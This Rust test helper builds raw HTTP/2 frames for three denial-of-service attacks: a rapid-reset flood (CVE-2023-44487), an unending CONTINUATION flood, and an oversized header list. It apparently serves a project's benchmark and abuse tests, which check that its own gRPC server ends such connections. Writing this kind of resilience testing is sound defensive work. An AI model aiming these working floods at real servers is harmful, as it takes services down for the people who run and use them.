//! Raw HTTP/2, for the attacks no client library will send: a rapid-reset flood, a
//! CONTINUATION flood and an oversized header list. Used by `casework-bench abuse` (the good
//! client's latency during an attack) and by tests/abuse.rs (each attack ends its connection),
//! which includes this file by path.
use std::net::SocketAddr;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
const HEADERS: u8 = 0x1;
const RST_STREAM: u8 = 0x3;
const SETTINGS: u8 = 0x4;
const GOAWAY: u8 = 0x7;
const CONTINUATION: u8 = 0x9;
const END_STREAM: u8 = 0x1;
const END_HEADERS: u8 = 0x4;

/// The attacks, each on one connection.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Attack {
    /// Streams opened and at once cancelled (CVE-2023-44487).
    RapidReset,
    /// A header block that never ends: CONTINUATION frames of 1 KiB each.
    Continuation,
    /// One complete header block of 64 KiB, four times the default limit.
    Headers,
}

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let len = payload.len() as u32;
    let mut out = vec![(len >> 16) as u8, (len >> 8) as u8, len as u8, kind, flags];
    out.extend_from_slice(&stream.to_be_bytes());
    out.extend_from_slice(payload);
    out
}

/// An HPACK integer with an `n`-bit prefix (RFC 7541 §5.1) after `first`'s high bits.
fn integer(first: u8, n: u32, value: usize, out: &mut Vec<u8>) {
    let max = (1usize << n) - 1;
    if value < max {
        out.push(first | value as u8);
        return;
    }
    out.push(first | max as u8);
    let mut rest = value - max;
    while rest >= 128 {
        out.push((rest % 128 + 128) as u8);
        rest /= 128;
    }
    out.push(rest as u8);
}

/// A literal header (no indexing, new name, no Huffman).
fn literal(name: &str, value: &str, out: &mut Vec<u8>) {
    out.push(0x00);
    integer(0, 7, name.len(), out);
    out.extend_from_slice(name.as_bytes());
    integer(0, 7, value.len(), out);
    out.extend_from_slice(value.as_bytes());
}

/// The header block of a GetTicket call.
fn request_block(authority: &str) -> Vec<u8> {
    let mut block = vec![0x83, 0x86]; // :method POST, :scheme http
    block.push(0x04); // :path, literal with the static table's name
    let path = "/casework.v1.TicketService/GetTicket";
    integer(0, 7, path.len(), &mut block);
    block.extend_from_slice(path.as_bytes());
    block.push(0x01); // :authority
    integer(0, 7, authority.len(), &mut block);
    block.extend_from_slice(authority.as_bytes());
    literal("content-type", "application/grpc", &mut block);
    literal("te", "trailers", &mut block);
    block
}

/// Makes `attack` on a connection of its own to the server at `addr` (`streams` opened and
/// reset, or a header block continued by up to `streams` CONTINUATION frames, or one
/// oversized header list) and reads until the server ends it: true if it sent GOAWAY or
/// closed the connection (or, for the oversized list, reset its stream), false if it served
/// the oversized list. A flood the server never ends never returns: callers bound it.
pub async fn attack(addr: SocketAddr, attack: Attack, streams: u32) -> std::io::Result<bool> {
    let mut tcp = TcpStream::connect(addr).await?;
    tcp.write_all(PREFACE).await?;
    tcp.write_all(&frame(SETTINGS, 0, 0, &[])).await?;
    Ok(ends_the_connection(tcp, attack, frames(attack, addr, streams)).await)
}

fn frames(
    attack: Attack,
    addr: SocketAddr,
    streams: u32,
) -> Box<dyn Iterator<Item = Vec<u8>> + Send> {
    let block = request_block(&addr.to_string());
    match attack {
        Attack::RapidReset => Box::new((0..streams).map(move |i| {
            let stream = 2 * i + 1;
            let mut bytes = frame(HEADERS, END_HEADERS | END_STREAM, stream, &block);
            bytes.extend(frame(RST_STREAM, 0, stream, &8u32.to_be_bytes()));
            bytes
        })),
        Attack::Continuation => {
            let mut chunk = Vec::new();
            literal("x-flood", &"a".repeat(1000), &mut chunk);
            let first = std::iter::once(frame(HEADERS, END_STREAM, 1, &block));
            Box::new(first.chain((0..streams).map(move |_| frame(CONTINUATION, 0, 1, &chunk))))
        }
        Attack::Headers => {
            let mut block = block;
            for i in 0..64 {
                literal(&format!("x-big-{i}"), &"b".repeat(1000), &mut block);
            }
            // Frames of at most 16 KiB (the default SETTINGS_MAX_FRAME_SIZE).
            let chunks: Vec<&[u8]> = block.chunks(16_000).collect();
            let last = chunks.len() - 1;
            let bytes: Vec<u8> = chunks
                .iter()
                .enumerate()
                .flat_map(|(i, chunk)| {
                    let kind = if i == 0 { HEADERS } else { CONTINUATION };
                    let flags = if i == last { END_HEADERS } else { 0 }
                        | if i == 0 { END_STREAM } else { 0 };
                    frame(kind, flags, 1, chunk)
                })
                .collect();
            Box::new(std::iter::once(bytes))
        }
    }
}

/// Sends `frames` until the server stops taking them, reading all the while until it ends
/// the connection (see `attack`).
async fn ends_the_connection(
    mut tcp: TcpStream,
    attack: Attack,
    frames: impl Iterator<Item = Vec<u8>>,
) -> bool {
    // Only the oversized list's one stream may be refused alone.
    let single = attack == Attack::Headers;
    let (mut read, mut write) = tcp.split();
    let reader = async {
        let mut header = [0u8; 9];
        loop {
            if read.read_exact(&mut header).await.is_err() {
                return true; // closed (or reset)
            }
            let len = u32::from_be_bytes([0, header[0], header[1], header[2]]) as usize;
            let mut payload = vec![0u8; len];
            if read.read_exact(&mut payload).await.is_err() {
                return true;
            }
            let stream =
                u32::from_be_bytes([header[5], header[6], header[7], header[8]]) & 0x7fff_ffff;
            match header[3] {
                GOAWAY => return true,
                RST_STREAM if single && stream == 1 => return true,
                HEADERS if single && stream == 1 => return false,
                _ => {}
            }
        }
    };
    let writer = async {
        for bytes in frames {
            if write.write_all(&bytes).await.is_err() {
                break;
            }
        }
        // The server must end it even though the client says nothing more.
        std::future::pending::<()>().await;
    };
    tokio::select! {
        ended = reader => ended,
        _ = writer => unreachable!(),
    }
}
